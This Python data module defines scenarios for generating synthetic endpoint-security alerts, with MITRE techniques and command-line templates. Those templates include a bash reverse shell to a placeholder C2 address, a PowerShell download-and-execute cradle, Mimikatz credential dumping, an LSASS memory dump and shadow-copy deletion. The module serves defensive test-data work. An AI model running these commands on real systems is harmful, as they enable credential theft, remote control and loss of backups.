# ruff: noqa: E501  (data table: long command lines are the data)
"""Alert stories: title, category, detection source, MITRE techniques and evidence recipe.

Each scenario keeps its facts consistent with each other (a Mimikatz alert is
CredentialAccess/T1003 with mimikatz.exe as the file). Titles follow the forms the
service uses ("'<family>' malware was detected" for antivirus detections). Network
indicators use documentation ranges (RFC 5737) and reserved example domains."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Scenario:
    """One kind of alert and how to build its evidence."""

    key: str
    title: str
    description: str
    category: str
    detection_source: str
    severity: str
    mitre: tuple[str, ...]
    families: tuple[str, ...]
    weight: int
    determinations: tuple[str, ...]
    """True-positive determinations that fit the story."""
    benign: str | None = None
    """Determination when an analyst calls it expected activity (e.g. SecurityTesting)."""
    threat_family: str | None = None
    threat_name: str | None = None
    process: tuple[str, str, str] | None = None
    """(image file key, parent image file key, command line template)."""
    payload: str | None = None
    """File key of the malicious file, if any."""
    network: str | None = None
    """"c2" (a remote IP), "peer" (another device of the tenant) or "url"."""
    url_path: str = "/"
    file_status: str = "Detected"
    has_user: bool = True


AV = "WindowsDefenderAv"
EDR = "WindowsDefenderAtp"
_MALWARE_TEXT = (
    "Malware and unwanted software are undesirable applications that perform annoying, "
    "disruptive, or harmful actions on affected machines. This detection might indicate "
    "that the malware was stopped from delivering its payload. However, it is prudent to "
    "check the machine for signs of infection."
)
_EXPLOIT_TEXT = (
    "Exploits take advantage of unsecure code in operating system components and "
    "applications to run arbitrary code or elevate privileges. This detection might "
    "indicate that the malware was stopped from delivering its payload."
)

SCENARIOS = (
    Scenario(
        "ps_encoded", "Suspicious PowerShell command line",
        "A suspicious PowerShell command line was found. The command line hides its intent "
        "behind encoded content, which attackers use to download or run code in memory.",
        "Execution", EDR, "Medium", ("T1059.001", "T1027"), ("windows",), 14,
        ("MultiStagedAttack", "Malware"), benign="LineOfBusinessApplication",
        process=("powershell", "cmd",
                 "powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -EncodedCommand {b64}"),
        network="url", url_path="/a/stage2.ps1",
    ),
    Scenario(
        "mimikatz", "Mimikatz credential theft tool",
        "The Mimikatz credential theft tool was found on this device. Attackers use it to "
        "harvest plaintext passwords and hashes from memory and reuse them elsewhere.",
        "CredentialAccess", EDR, "High", ("T1003", "T1003.001"), ("windows",), 5,
        ("CompromisedUser", "MultiStagedAttack"), benign="SecurityTesting",
        threat_family="Mimikatz",
        process=("powershell", "explorer",
                 'powershell.exe -c "& {temp}\\mimikatz.exe privilege::debug sekurlsa::logonpasswords exit"'),
        payload="mimikatz",
    ),
    Scenario(
        "lsass_access", "Suspicious access to LSASS service",
        "A process accessed the memory of the Local Security Authority Subsystem Service, "
        "which may indicate an attempt to dump credentials.",
        "CredentialAccess", EDR, "High", ("T1003.001",), ("windows",), 5,
        ("CompromisedUser", "MultiStagedAttack"), benign="SecurityTesting",
        process=("rundll32", "cmd",
                 "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 660 {temp}\\lsass.dmp full"),
    ),
    Scenario(
        "ransom_behavior", "Ransomware behavior detected in the file system",
        "A process created, renamed or modified many files in a way typical of ransomware "
        "encrypting documents and leaving ransom notes.",
        "Ransomware", EDR, "High", ("T1486",), ("windows",), 3,
        ("MultiStagedAttack", "Malware"),
        threat_family="Lockbit",
        process=("cmd", "services", "cmd.exe /c C:\\ProgramData\\LB3.exe -pass {b64short}"),
        payload="lockbit",
    ),
    Scenario(
        "backups_deleted", "File backups were deleted",
        "Volume shadow copies were deleted, a step ransomware takes to stop the victim "
        "from restoring encrypted files.",
        "Ransomware", EDR, "High", ("T1490",), ("windows",), 3,
        ("MultiStagedAttack",), benign="ConfirmedUserActivity",
        process=("vssadmin", "cmd", "vssadmin.exe delete shadows /all /quiet"),
    ),
    Scenario(
        "psexec", "PsExec launched a command on a remote device",
        "PsExec was used to start a command on this device from another device of the "
        "organization. Attackers use it to move laterally with stolen credentials.",
        "LateralMovement", EDR, "Medium", ("T1021.002", "T1569.002"), ("windows",), 6,
        ("MultiStagedAttack", "MaliciousUserActivity"), benign="ConfirmedUserActivity",
        process=("psexesvc", "services", "C:\\Windows\\PSEXESVC.exe"),
        network="peer",
    ),
    Scenario(
        "asep_registry", "Anomaly detected in ASEP registry",
        "A process registered an unusual program under a Run key so that it starts "
        "every time the user signs in.",
        "Persistence", EDR, "Medium", ("T1547.001",), ("windows",), 7,
        ("Malware", "MultiStagedAttack"), benign="LineOfBusinessApplication",
        process=("reg", "cmd",
                 'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync '
                 '/t REG_SZ /d "rundll32.exe C:\\Users\\{user}\\AppData\\Roaming\\ntuser_cache.dll,Start" /f'),
        payload="dropper_dll",
    ),
    Scenario(
        "sched_task", "Suspicious Task Scheduler activity",
        "A scheduled task was created to run a script from a user-writable folder, a "
        "common way to persist on a device.",
        "Persistence", EDR, "Low", ("T1053.005",), ("windows",), 6,
        ("Malware",), benign="LineOfBusinessApplication",
        process=("schtasks", "cmd",
                 'schtasks.exe /create /sc minute /mo 30 /tn "UpdateCheck" /tr "mshta.exe {url}" /f'),
        network="url", url_path="/t/check.hta",
    ),
    Scenario(
        "certutil_download", "Suspicious file download using a Windows utility",
        "The certutil utility was used to download a file from the internet, a living-off-"
        "the-land technique to bring tools onto a device.",
        "CommandAndControl", EDR, "Medium", ("T1105",), ("windows",), 6,
        ("Malware", "MultiStagedAttack"), benign="SecurityTesting",
        process=("certutil", "cmd", "certutil.exe -urlcache -split -f {url} {downloads}\\setup_x64.exe"),
        payload="wacatac", network="url", url_path="/dl/setup_x64.exe",
    ),
    Scenario(
        "recon", "Suspicious sequence of exploration activities",
        "A process ran a series of discovery commands (user, group and domain trust "
        "enumeration) in a short time, as attackers do after gaining a foothold.",
        "Discovery", EDR, "Low", ("T1087.002", "T1482", "T1033"), ("windows",), 8,
        ("MaliciousUserActivity", "MultiStagedAttack"), benign="ConfirmedUserActivity",
        process=("cmd", "powershell", 'cmd.exe /c "whoami /all & net group "Domain Admins" /domain & nltest /domain_trusts"'),
    ),
    Scenario(
        "office_child", "Suspicious behavior by Microsoft Word was observed",
        "Microsoft Word started a script interpreter, which usually means a macro in a "
        "document downloaded and ran a payload.",
        "InitialAccess", EDR, "Medium", ("T1566.001", "T1204.002", "T1059.001"), ("windows",), 6,
        ("Phishing", "Malware"),
        process=("powershell", "winword", "powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('{url}')"),
        payload="macrodoc", network="url", url_path="/o/doc.ps1",
    ),
    Scenario(
        "signed_binary", "Low-reputation arbitrary code executed by signed executable",
        "Binaries signed by Microsoft can be used to run low-reputation arbitrary code. "
        "This hides the execution of malicious code within a trusted process.",
        "Execution", EDR, "Low", ("T1218.011", "T1055"), ("windows",), 6,
        ("Malware",), benign="LineOfBusinessApplication",
        process=("rundll32_wow", "rundll32", "rundll32.exe  {temp}\\rcb4.dll,RepeatAfterMe"),
        payload="emotet",
    ),
    Scenario(
        "custom_ti", "Connection to a custom network indicator",
        "The device connected to an address that matches a custom indicator of your organization.",
        "CommandAndControl", "CustomerTI", "Medium", ("T1071.001",), ("windows", "linux", "macos"), 3,
        ("Malware", "Other"), benign="SecurityTesting",
        network="c2",
    ),
    Scenario(
        "av_skeeyah", "'Skeeyah' malware was detected", _MALWARE_TEXT,
        "Malware", AV, "Medium", (), ("windows",), 7, ("Malware",),
        threat_family="Skeeyah", threat_name="Trojan:Win32/Skeeyah.A!bit",
        payload="skeeyah", file_status="Prevented", has_user=False,
    ),
    Scenario(
        "av_wacatac", "'Wacatac' malware was detected", _MALWARE_TEXT,
        "Malware", AV, "Medium", (), ("windows",), 7, ("Malware",),
        threat_family="Wacatac", threat_name="Trojan:Win32/Wacatac.B!ml",
        payload="wacatac", file_status="Blocked", has_user=False,
    ),
    Scenario(
        "av_eicar", "'EICAR_Test_File' malware was detected", _MALWARE_TEXT,
        "Malware", AV, "Informational", (), ("windows", "linux", "macos"), 3, ("Other",),
        benign="SecurityTesting",
        threat_family="EICAR_Test_File", threat_name="Virus:DOS/EICAR_Test_File",
        payload="eicar", file_status="Prevented", has_user=False,
    ),
    Scenario(
        "av_presenoker", "'Presenoker' unwanted software was detected",
        "Potentially unwanted applications can slow devices down, show unexpected ads or "
        "install other software.",
        "Malware", AV, "Low", (), ("windows",), 5, ("UnwantedSoftware",),
        threat_family="Presenoker", threat_name="PUA:Win32/Presenoker",
        payload="presenoker", file_status="Blocked", has_user=False,
    ),
    Scenario(
        "av_exploit", "'CVE-2014-0515' exploit malware was detected", _EXPLOIT_TEXT,
        "Exploit", AV, "Low", (), ("windows",), 3, ("Malware",),
        threat_family="CVE-2014-0515", threat_name="Exploit:SWF/CVE-2014-0515",
        payload="swfexploit", file_status="Prevented", has_user=False,
    ),
    Scenario(
        "meterpreter", "Meterpreter post-exploitation tool",
        "Meterpreter, a post-exploitation tool, was detected on this device. Attackers use it "
        "to persist, steal credentials and load further payloads.",
        "SuspiciousActivity", AV, "Medium", ("T1055.001",), ("windows",), 2,
        ("MultiStagedAttack",), benign="SecurityTesting",
        threat_family="Meterpreter", threat_name="VirTool:Java/Meterpreter.A",
        payload="meterpreter", network="c2", file_status="Detected",
    ),
    Scenario(
        "linux_revshell", "Suspicious reverse shell connection",
        "A shell was started with its input and output redirected to a remote host, "
        "giving that host interactive control of this device.",
        "Execution", EDR, "High", ("T1059.004", "T1071"), ("linux",), 4,
        ("MultiStagedAttack", "MaliciousUserActivity"), benign="SecurityTesting",
        process=("bash", "python3", "bash -i >& /dev/tcp/{c2}/4444 0>&1"),
        network="c2",
    ),
    Scenario(
        "linux_miner", "'CoinMiner' malware was detected", _MALWARE_TEXT,
        "Malware", AV, "Medium", (), ("linux",), 3, ("Malware",),
        threat_family="CoinMiner", threat_name="Trojan:Linux/CoinMiner.A",
        payload="xmrig", file_status="Prevented", has_user=False,
    ),
    Scenario(
        "linux_mirai", "'Mirai' malware was detected", _MALWARE_TEXT,
        "Malware", AV, "High", (), ("linux",), 2, ("Malware",),
        threat_family="Mirai", threat_name="Backdoor:Linux/Mirai.B",
        payload="mirai", file_status="Detected", network="c2", has_user=False,
    ),
    Scenario(
        "mac_pirrit", "'Pirrit' unwanted software was detected",
        "Potentially unwanted applications can show unexpected ads or install other software.",
        "Malware", AV, "Low", (), ("macos",), 4, ("UnwantedSoftware",),
        threat_family="Pirrit", threat_name="PUA:MacOS/Pirrit",
        payload="pirrit", file_status="Blocked", has_user=False,
    ),
)  # fmt: skip

SCENARIOS_BY_FAMILY = {
    family: tuple(s for s in SCENARIOS if family in s.families)
    for family in ("windows", "linux", "macos")
}

C2_ADDRESSES = (
    "198.51.100.23", "198.51.100.87", "198.51.100.142", "192.0.2.14", "192.0.2.77",
    "192.0.2.201", "203.0.113.66", "203.0.113.199",
)  # fmt: skip
MALICIOUS_HOSTS = (
    "cdn-update.example.net", "invoice-portal.example.com", "files-share.example.org",
    "login-check.example.net", "static-assets.example.org",
)  # fmt: skip

ANALYST_COMMENTS = (
    "Investigating with the device owner.",
    "Isolated the device while we check the timeline.",
    "Related to the pen test scheduled this week.",
    "Hash blocked tenant-wide; scanning other devices.",
    "User confirmed they did not run this.",
    "Escalated to incident response.",
    "Closing: remediated by automated investigation.",
)
